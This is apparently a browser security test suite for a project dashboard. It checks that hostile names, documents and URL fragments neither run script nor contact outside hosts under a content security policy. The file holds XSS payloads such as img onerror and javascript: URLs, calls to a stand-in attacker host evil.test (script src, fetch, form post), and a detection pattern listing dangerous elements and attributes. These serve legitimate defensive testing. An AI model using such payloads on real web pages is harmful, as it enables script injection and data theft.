import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { figure } from '../../../familiar/test/helpers/figures.js'
import { lacksChromium, PATIENT, untilLive, type Dashboard } from '../helpers/browser.js'
import { useBrowser } from '../helpers/browser-desk.js'
import { BY_THE_WAY, MARKDOWN, NAMES, SAMPLES } from '../helpers/hostile-text.js'
import { emptyProject, laneEvent, writeMission } from '../helpers/projects.js'
import { openSink, openTripwire, type Tripwire } from '../helpers/tripwire.js'

/**
 * A project that wants to run something in the page that shows it. One page goes through everything: what it was seen doing
 * counts from its first view on.
 */
describe.skipIf(lacksChromium())('a hostile project in a browser', () => {
  const missions = NAMES.map((name, at) => `${at} ${name}`)
  let sink: Awaited<ReturnType<typeof openSink>>
  let dashboard: Dashboard
  let wire: Tripwire
  let page: Page
  let before: number

  beforeAll(async () => {
    sink = await openSink()
  })
  afterAll(() => sink?.close())
  const here = useBrowser(() => ({ more: [sink.rule] }))
  beforeAll(async () => {
    dashboard = await here.desk.start(hostileTexts(missions))
    wire = await openTripwire(here.browser)
    page = wire.page
  })

  it('would be seen: in a page without defences the samples run, and ask', async () => {
    const server = await serveBare(Object.values(SAMPLES))
    const bare = await openTripwire(here.browser)
    const { ran, requests } = bare
    const { port } = server.address() as AddressInfo
    await bare.page.goto(`http://127.0.0.1:${port}/`)
    await expect.poll(() => new Set(ran).size, PATIENT).toBeGreaterThan(15)
    expect(requests.filter((url) => url.includes('evil.test')).length).toBeGreaterThan(5)
    await expect.poll(() => sink.connections(), PATIENT).toBeGreaterThan(5)
    figure(`without defences: ${new Set(ran).size} of ${Object.keys(SAMPLES).length} samples ran`)
    await bare.page.context().close()
    await new Promise((resolve) => server.close(resolve))
    before = sink.connections()
  })

  it('runs nothing and sends nothing because of names, titles and front matter', async () => {
    await page.goto(`${dashboard.url}#/missions`)
    await page.getByRole('list', { name: 'Missions' }).waitFor()
    await untilLive(page)
    expect(await page.locator('.mission-row').count()).toBe(missions.length)
    for (const mission of missions) {
      await page.goto(`${dashboard.url}#/missions/${encodeURIComponent(mission)}`)
      await page.locator('[data-card]').first().waitFor()
      expect(await page.locator('[data-card]').count()).toBe(NAMES.length)
      await page.locator('[data-card] a').nth(missions.indexOf(mission)).click()
      await page.locator('dialog [data-testid=document]').waitFor()
    }
    await expectQuiet()
    expect(sink.connections()).toBe(before)
  })

  it('runs nothing and sends nothing because of documents', async () => {
    const [mission = ''] = missions
    await page.goto(`${dashboard.url}#/missions/${encodeURIComponent(mission)}/`)
    const shelf = page.getByRole('navigation', { name: 'Documents' }).getByRole('link')
    await shelf.first().waitFor()
    const count = await shelf.count()
    expect(count).toBe(Object.keys(SAMPLES).length + 3 + NAMES.length * 2)
    for (let at = 0; at < count; at += 1) {
      await shelf.nth(at).dispatchEvent('click')
      await expect.poll(() => page.evaluate(HARMFUL), { ...PATIENT, message: `document ${at}` }).toEqual([])
    }
    await expectQuiet()
    expect(sink.connections()).toBe(before)
  })

  it('keeps the names of the page from documents', async () => {
    await page.goto(`${dashboard.url}#/missions/${encodeURIComponent(missions[0] ?? '')}/plan.md`)
    await page.reload()
    await page.getByTestId('document').waitFor()
    expect(
      await page.evaluate(`[document.getElementById('main').tagName, document.body instanceof HTMLBodyElement,
        typeof document.querySelector, document.location === location, document.baseURI.split('#')[0],
        trustedTypes instanceof TrustedTypePolicyFactory, document.title.length > 0]`),
    ).toEqual(['MAIN', true, 'function', true, dashboard.url, true, true])
  })

  it.each([
    '#/missions/<img src=x onerror=boom(1)>',
    '#javascript:boom(2)',
    '#/missions/%/%00/..%2f..',
    '#/%3Cscript%3E',
  ])('runs nothing from the address %s', async (fragment) => {
    await page.goto(dashboard.url + fragment)
    await page.reload()
    await page.locator('.notice').waitFor()
    await untilLive(page)
    await expectQuiet((text) => !text.includes('404'))
    expect(sink.connections()).toBe(before)
  })

  it('has a policy in force that would hold if the page failed', async () => {
    const asked = sink.requests()
    await page.goto(`${dashboard.url}#/missions`)
    await page.getByRole('list', { name: 'Missions' }).waitFor()
    const outcome = await page.evaluate(BREAK_IN)
    expect(outcome).toEqual({
      eval: 'EvalError',
      function: 'EvalError',
      timer: 'TypeError',
      innerHTML: 'TypeError',
      'script text': 'TypeError',
      'script url': 'TypeError',
      'another policy': 'TypeError',
      'the same policy again': 'TypeError',
      import: 'TypeError',
      fetch: 'TypeError',
    })
    const violated = (): Promise<readonly string[]> => page.evaluate('[...new Set(violations)].sort()')
    await expect
      .poll(violated, PATIENT)
      .toEqual(
        expect.arrayContaining([
          'base-uri http://evil.test',
          'connect-src http://evil.test',
          'form-action http://evil.test',
          'frame-src http://evil.test',
          'img-src http://evil.test',
          'require-trusted-types-for trusted-types-sink',
          'script-src-elem data',
          'script-src-elem inline',
          'style-src-attr inline',
          'style-src-elem inline',
          'trusted-types trusted-types-policy',
        ]),
      )
    expect(wire.ran).toEqual([])
    expect(page.url()).toBe(`${dashboard.url}#/missions`)
    // The browser connects ahead of a frame's navigation, and then may not ask.
    expect(sink.requests()).toBe(asked)
  })

  async function expectQuiet(counts: (complaint: string) => boolean = () => true): Promise<void> {
    const { ran, requests, places, complaints } = wire
    await page.waitForTimeout(500)
    expect(ran).toEqual([])
    expect(complaints.filter(counts)).toEqual([])
    expect(sent(requests, dashboard)).toEqual([])
    expect(places.filter((url) => !url.startsWith(dashboard.url) && url !== 'about:blank')).toEqual([])
  }
})

/** Returns the requests to anybody else. */
function sent(requests: readonly string[], { url }: Dashboard): readonly string[] {
  return requests.filter((asked) => !asked.startsWith(url) && !asked.startsWith('data:image/png'))
}

function hostileTexts(missions: readonly string[]): string {
  const project = emptyProject()
  const packages = NAMES.map((name, at) => [`tasks/WP0${at} ${name}.md`, hostilePrompt(name)] as const)
  const events = NAMES.map((name, at) => laneEvent(at, name, NAMES[at + 1] ?? 'done', { actor: name }))
  const samples = Object.entries(SAMPLES).map(
    ([name, text]) => [`contracts/${name}.md`, `# ${name}\n\n${text}\n`] as const,
  )
  for (const [at, mission] of missions.entries()) {
    writeMission(project, mission, {
      'meta.json': JSON.stringify({ title: NAMES[at] }),
      ...Object.fromEntries(packages),
      'status.events.jsonl': events.join(''),
      ...(at > 0
        ? {}
        : {
            'spec.md': MARKDOWN,
            'plan.md': BY_THE_WAY,
            'tasks.md': Object.values(SAMPLES).join('\n'),
            ...Object.fromEntries(samples),
            ...Object.fromEntries(NAMES.map((name) => [`checklists/${name}.html`, BY_THE_WAY])),
          }),
    })
  }
  return project
}

function hostilePrompt(name: string): string {
  const text = JSON.stringify(name)
  const fields = ['title', 'agent', 'assignee', 'phase'].map((field) => `${field}: ${text}`).join('\n')
  return `---\nwork_package_id: ${text}\n${fields}\nsubtasks: [${text}]\ndependencies: [${text}, "x"]\n---\n\n${MARKDOWN}`
}

/** Serves a page with every sample in a frame of its own, without any defence. */
function serveBare(samples: readonly string[]): Promise<Server> {
  const frames = samples.map((_, at) => `<iframe src="/${at}"></iframe>`).join('')
  const server = createServer(({ url = '' }, response) => {
    const html = url === '/' ? frames : samples[Number(url.slice(1))]
    response.writeHead(html === undefined ? 404 : 200, { 'content-type': 'text/html' })
    response.end(html)
  })
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)))
}

/** What must not be in the document that was chosen, each as it stands; null: it is not shown yet. */
const HARMFUL = `document.querySelector('[data-testid=document]') === null
  || !document.querySelector('.shelf [aria-current=page]').title.startsWith(document.querySelector('#document-name').textContent)
  ? null : [...document.querySelector('[data-testid=document]').querySelectorAll('*')].filter((element) => {
  const isBad = 'script style link meta base iframe frame object embed form input button select textarea svg math video audio template'
    .split(' ').includes(element.localName)
  const attributes = [...element.attributes]
  const isHeading = ({ name, value }) => name === 'id' && value.startsWith('heading-')
  const isArmed = attributes.some((one) => !isHeading(one) && /^on|^(style|id|name|srcdoc|srcset|ping|formaction|action|background)$/.test(one.name))
  const leads = attributes.filter(({ name }) => ['href', 'src'].includes(name)).map(({ value }) => value)
  const isLoaded = element.localName === 'img' && !leads.every((to) => to.startsWith('data:image/png'))
  return isBad || isArmed || isLoaded || leads.some((to) => !/^(#|https?:|mailto:|data:image[/]png)/.test(to))
}).map((element) => element.outerHTML.slice(0, 120))`

/** Does what a script could do that got into the page somehow, and returns how each attempt was refused. */
const BREAK_IN = `new Promise((resolve) => setTimeout(async () => {
  globalThis.violations = []
  addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective + ' ' + event.blockedURI.split('/').slice(0, 3).join('/')))
  const attempts = {
    eval: () => eval("boom('eval')"),
    function: () => new Function("boom('function')")(),
    timer: () => setTimeout("boom('timer')"),
    innerHTML: () => (document.createElement('div').innerHTML = '<img src=x onerror="boom(1)">'),
    'script text': () => (document.createElement('script').text = "boom('text')"),
    'script url': () => (document.createElement('script').src = 'http://evil.test/x.js'),
    'another policy': () => trustedTypes.createPolicy('evil', {}),
    'the same policy again': () => trustedTypes.createPolicy('spec-kitty', {}),
    import: () => import("data:text/javascript,boom('import')"),
    fetch: () => fetch('http://evil.test/fetch'),
  }
  const outcome = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt()
      outcome[name] = 'went through'
    } catch (error) {
      outcome[name] = error.name
    }
  }
  const make = (tag, attributes, ...children) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) {
      try { element.setAttribute(name, value) } catch {}
    }
    element.append(...children)
    document.body.append(element)
    return element
  }
  make('script', {}, "boom('inline')")
  make('img', { src: 'http://evil.test/image.png' })
  make('iframe', { src: 'http://evil.test/frame' })
  make('style', {}, 'body { color: red }')
  make('p', { style: 'color: red' })
  make('a', { href: "javascript:boom('link')" }).click()
  make('base', { href: 'http://evil.test/' })
  make('p', { onclick: "boom('attribute')" }).click()
  make('form', { action: 'http://evil.test/form', method: 'post' }).submit()
  setTimeout(() => resolve(outcome), 300)
}))`
